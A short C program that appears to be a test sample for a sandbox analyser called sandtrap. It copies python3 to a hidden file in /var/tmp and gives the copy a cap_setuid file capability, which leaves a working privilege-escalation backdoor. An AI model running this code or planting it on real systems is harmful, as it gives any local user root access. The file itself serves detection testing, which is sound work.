/* Privilege escalation through file capabilities: writes a security.capability xattr (cap_setuid+ep, VFS cap v2) onto a copy of python3.
 * Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
 * simulated internet, reserved addresses). Built into the build directory and copied
 * without the exec bit; never run it on a host, only through `sandtrap analyze`.
 */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/xattr.h>
#include <unistd.h>

int main(void)
{
	const char *dst = "/var/tmp/.python3";
	char buf[65536];
	ssize_t n;
	int in = open("/usr/bin/python3", O_RDONLY), out = open(dst, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (in < 0 || out < 0)
		return 1;
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n)
			return 1;
	close(in);
	close(out);
	/* struct vfs_cap_data, revision 2, effective bit: permitted cap_setuid (7) */
	uint32_t cap[5] = {0x02000001, 1u << 7, 0, 0, 0};
	if (setxattr(dst, "security.capability", cap, sizeof(cap), 0) != 0)
		perror("setxattr security.capability");
	else
		printf("capability set on %s\n", dst);
	return 0;
}
